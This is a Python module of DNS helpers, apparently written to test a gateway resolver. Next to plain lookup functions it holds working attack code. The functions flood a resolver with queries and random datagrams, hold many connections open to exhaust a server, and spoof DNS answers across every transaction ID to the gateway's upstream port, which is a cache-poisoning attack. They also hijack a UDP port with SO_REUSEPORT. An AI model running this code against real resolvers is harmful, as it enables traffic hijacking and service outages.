"""Names and how they are resolved, by the C library and by hand."""

from __future__ import annotations

import os
import socket
import struct
import threading
import time
from pathlib import Path


def lookup(name: str) -> list[str]:
    """The addresses that every program of the image would get."""
    found = socket.getaddrinfo(name, 0, type=socket.SOCK_STREAM)
    return sorted({str(item[4][0]) for item in found})


def lookup_one(name: str) -> str:
    """The one address of a name."""
    (address,) = lookup(name)
    return address


def look_up_many(names: list[str]) -> dict[str, int]:
    """Look many up; how often each outcome came."""
    outcomes: dict[str, int] = {}
    for name in names:
        try:
            socket.getaddrinfo(name, 0, socket.AF_INET, socket.SOCK_STREAM)
            outcome = "found"
        except socket.gaierror as error:
            outcome = "EAI_NONAME" if error.errno == socket.EAI_NONAME else "failed"
        outcomes[outcome] = outcomes.get(outcome, 0) + 1
    return outcomes


def flood(name: str, count: int, seconds: float) -> dict[str, int]:
    """Ask as fast as the kernel takes it, reading answers as they come."""
    labels = b"".join(bytes((len(each),)) + each.encode() for each in name.split("."))
    question = labels + b"\0" + struct.pack("!HH", 1, 1)
    sent = answered = 0
    end = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.connect(("198.51.100.53", 53))
        made.setblocking(False)
        while sent < count and time.monotonic() < end:
            try:
                made.send(struct.pack("!6H", sent & 0xFFFF, 0x0100, 1, 0, 0, 0) + question)
                sent += 1
                made.recv(2048)
                answered += 1
            except OSError:
                continue
    return {"sent": sent, "answered": answered}


def flood_garbage(count: int) -> int:
    """Send datagrams of random bytes to the resolver; how many the kernel took."""
    taken = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.connect(("198.51.100.53", 53))
        for number in range(count):
            try:
                made.send(os.urandom(1 + number % 600))
                taken += 1
            except OSError:
                continue
    return taken


def hold_streams(address: str, port: int, count: int, data: str) -> int:
    """Open streams to a server, say the same on each, and keep them; how many opened."""
    opened = 0
    for _ in range(count):
        made = socket.socket()
        made.settimeout(1)
        try:
            made.connect((address, port))
            made.sendall(bytes.fromhex(data))
            opened += 1
        except OSError:
            pass
        _kept.append(made)
    return opened


def let_go() -> int:
    """Close what `hold_streams` kept."""
    count = len(_kept)
    while _kept:
        _kept.pop().close()
    return count


_kept: list[socket.socket] = []


def upstream_ports() -> list[int]:
    """Local ports of the gateway's questions, by /proc/net: UDP to port 53, of user 0."""
    ports: list[int] = []
    for line in Path("/proc/net/udp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[2].endswith(":0035") and fields[7] == "0":
            ports.append(int(fields[1].split(":")[1], 16))
    return ports


def forge(name: str, address: str, own: str) -> dict[str, object]:
    """Look a name up and answer the gateway's question in the resolver's place.

    Sends an answer with every id to the port that the question went out by, and to the address
    of this network as well.
    """
    outcome: list[object] = []

    def ask() -> None:
        try:
            outcome.append(lookup(name))
        except OSError as error:
            outcome.append(str(error))

    asking = threading.Thread(target=ask)
    asking.start()
    ports: list[int] = []
    while asking.is_alive() and not ports:
        ports = upstream_ports()
    sent = 0
    for port in ports[:1]:
        for kind in (1, 28):
            sent += _send_answers(name, kind, address, (own, port))
            sent += _send_answers(name, kind, address, ("127.0.0.1", port))
    asking.join()
    return {"ports": ports, "sent": sent, "outcome": outcome[0]}


def _send_answers(name: str, kind: int, address: str, to: tuple[str, int]) -> int:
    labels = b"".join(bytes((len(each),)) + each.encode() for each in name.split("."))
    data = socket.inet_aton(address)
    if kind == 28:
        data = socket.inet_pton(socket.AF_INET6, f"::ffff:{address}")
    body = struct.pack("!5H", 0x8180, 1, 1, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    body += struct.pack("!3HIH", 0xC00C, kind, 1, 60, len(data)) + data
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        for number in range(1 << 16):
            try:
                sent += bool(made.sendto(struct.pack("!H", number) + body, to))
            except OSError:
                continue
    return sent


def steal(port: int, address: str) -> str:
    """Bind a UDP port, with and without the options that share one."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    made.bind((address, port))
    _kept.append(made)
    return "bound"


def heard() -> int:
    """Whether a datagram came to a port that `steal` took; how many bytes it had."""
    _kept[-1].settimeout(0.2)
    return len(_kept[-1].recv(2048))
